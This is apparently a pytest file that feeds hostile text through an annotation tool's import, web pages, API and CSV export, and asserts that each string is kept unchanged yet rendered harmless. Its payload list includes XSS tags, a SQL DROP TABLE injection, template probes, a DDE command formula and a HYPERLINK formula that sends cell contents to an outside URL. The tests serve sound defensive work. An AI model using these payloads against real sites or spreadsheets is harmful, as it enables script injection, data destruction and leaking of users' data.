"""Texts made to break software: through import, page, API and export, unchanged and harmless."""

import csv
import io
import json

import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from annotation.data.exports.spreadsheets import csv_chunks, escape_formula
from annotation.data.exports.writers import json_line
from annotation.data.imports import import_comparisons, import_prompts
from annotation.data.snapshot_files import snapshot_file
from annotation.data.snapshots import freeze_snapshot
from annotation.models import ApiToken, Prompt
from annotation.tokens import create_token

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "markup": "<img src=x onerror=alert(1)><h1 style='position:fixed'>big</h1>",
    "htmx": '<div hx-get="/account/tokens/" hx-trigger="load" data-hx-post="/x">go</div>',
    "markdown": "[x](javascript:alert(1)) ![x](https://tracker.example/pixel.png)",
    "template": "{{ settings.SECRET_KEY }} {% load x %} ${7*7} #{7*7}",
    "sql": "'; DROP TABLE annotation_prompt; --",
    "formula": '=HYPERLINK("https://example.org/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(A1:A9)",
    "minus": "-2+3",
    "tab formula": "\t=1+1",
    "controls": "bell\x07 escape\x1b[31m backspace\x08 delete\x7f vertical\x0b next\x85",
    "separators": "line\u2028paragraph\u2029carriage\rreturn",
    "rtl": "\u202eevil\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "zero width": "a\u200bb\ufeffc\u2060d",
    "astral": "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧‍👦 \U0010ffff",
    "zalgo": "Z" + "\u0351\u0308\u0300" * 50,
    "long": "word " * 200_000,  # one million characters
    "braces": '{"prompt": "not a row"}',
    "quotes": '\'"`“”,;\n"""',
    "separator": "a\r\nb\nc",
}


@pytest.fixture
def taken_in(project, rita):
    """Every hostile text as a prompt, as a chosen and as a rejected answer."""
    rows = [
        {
            "prompt": [{"role": "user", "content": text}],
            "chosen": [{"role": "assistant", "content": f"{text} better"}],
            "rejected": [{"role": "assistant", "content": text}],
        }
        for text in HOSTILE.values()
    ]
    file = io.BytesIO("\n".join(json.dumps(row) for row in rows).encode())
    source = {"name": "<b>Hostile</b>", "licence": "=1+1", "url": "https://example.org/"}
    report = import_comparisons(project, file, axis="safety", source=source, by=rita, sign_off=True)
    assert report.ok, report.problems
    assert report.n_imported == len(HOSTILE)
    return project


@pytest.mark.django_db
def test_texts_are_stored_as_they_came(taken_in):
    stored = {prompt.text for prompt in Prompt.objects.all()}
    assert stored == set(HOSTILE.values())


@pytest.mark.django_db
def test_the_frozen_files_hold_the_texts_as_they_came(taken_in, rita):
    snapshot = freeze_snapshot(taken_in, by=rita)
    with snapshot_file(snapshot, "pairs-safety.jsonl").open(encoding="utf-8", newline="\n") as file:
        lines = [json.loads(line) for line in file]
    table = pq.read_table(snapshot_file(snapshot, "pairs-safety.parquet")).to_pylist()
    for rows in (lines, table):
        assert {row["prompt"][0]["content"] for row in rows} == set(HOSTILE.values())
        assert {row["rejected"][0]["content"] for row in rows} == set(HOSTILE.values())


@pytest.mark.django_db
def test_pages_show_them_as_text(taken_in, rita, grace, client):
    freeze_snapshot(taken_in, by=rita)
    client.force_login(grace)
    for address in ("prompts/", "prompts/?q=%3Cscript", "data/", "data/1/?axis=safety"):
        answer = client.get(f"/projects/apollo/{address}")
        page = answer.content.decode()
        assert answer.status_code == 200
        for markup in ("<script>alert", "<img src=x", '<div hx-get="/account', "<b>Hostile"):
            assert markup not in page, address
        assert len(page) < 400_000, "a million characters are not sent to a page"


@pytest.mark.django_db
def test_the_api_gives_them_back_as_json(taken_in, rita, client):
    client.force_login(rita)
    found = client.get("/api/v1/projects/apollo/prompts/?limit=100").json()
    assert {row["messages"][0]["content"] for row in found["results"]} == set(HOSTILE.values())
    streamed = b"".join(client.get("/api/v1/projects/apollo/judgments/").streaming_content)
    rows = [json.loads(line) for line in streamed.split(b"\n")[:-1]]
    assert {row["messages"][0]["content"] for row in rows} == set(HOSTILE.values())


@pytest.mark.django_db
def test_a_spreadsheet_is_given_no_formula(taken_in, rita, client):
    freeze_snapshot(taken_in, by=rita)
    client.force_login(rita)
    answer = client.get("/projects/apollo/data/1/forms/csv/")
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    csv.field_size_limit(2_000_000)
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert len(cells) > 6
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))]
    assert "'" + HOSTILE["formula"] in cells
    assert HOSTILE["script"] in cells


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["import", "api"])
@pytest.mark.parametrize("text", ["nul\0", "half \ud800 pair"])
def test_what_no_database_can_keep_is_refused_with_its_line(path, text, project, grace, client):
    row = {"prompt": text}
    if path == "import":
        report = import_prompts(
            project, io.BytesIO(json.dumps(row).encode()), source={"name": "x"}, by=grace
        )
        problems = [{"row": p.line, "reason": p.reason} for p in report.problems]
    else:
        client.force_login(grace)
        body = json.dumps({"source": {"name": "x"}, "rows": [row]})
        answer = client.post(
            "/api/v1/projects/apollo/prompts/", body, content_type="application/json"
        )
        assert answer.status_code == 422
        problems = answer.json()["problems"]
    assert problems[0]["row"] == 1
    assert "NUL" in problems[0]["reason"] or "surrogate" in problems[0]["reason"]
    assert not Prompt.objects.exists()


@pytest.mark.django_db
def test_deep_json_is_refused_by_the_api(project, grace, client):
    client.force_login(grace)
    body = '{"rows":' + "[" * 200_000 + "]" * 200_000 + "}"
    answer = client.post("/api/v1/projects/apollo/prompts/", body, content_type="application/json")
    assert answer.status_code == 400
    assert "nested too deeply" in answer.json()["detail"]


@pytest.mark.django_db
def test_a_body_that_is_too_large_is_refused_by_the_api(project, grace, client, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    _, plain = create_token(grace, name="script", days=1, scopes=ApiToken.Scope.values)
    body = json.dumps({"source": {"name": "x"}, "rows": [{"prompt": "x" * 2000}]})
    answer = client.post(
        "/api/v1/projects/apollo/prompts/",
        body,
        content_type="application/json",
        headers={"Authorization": f"Token {plain}"},
    )
    assert answer.status_code == 413


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_any_text_survives_csv_but_for_the_apostrophe(texts):
    rows = [{"text": text} for text in texts]
    written = "".join(csv_chunks(rows, ["text"])).removeprefix("\ufeff")
    read = list(csv.reader(io.StringIO(written, newline="")))[1:]
    read = [row[0] if row else "" for row in read]
    for text, cell in zip(texts, read, strict=True):
        assert cell in (text, f"'{text}")
        assert cell == escape_formula(text)
        assert not cell.startswith(tuple("=+-@\t\r"))


@given(st.dictionaries(st.text(), st.text() | st.none() | st.lists(st.text())))
def test_any_row_is_one_line_of_json(row):
    line = json_line(row)
    assert line.count(b"\n") == 1
    assert json.loads(line) == row


def test_half_a_surrogate_pair_does_not_stop_an_export():
    line = json_line({"a": ["half \ud800", {"b": "\udc00"}]})
    assert json.loads(line) == {"a": ["half \ufffd", {"b": "\ufffd"}]}
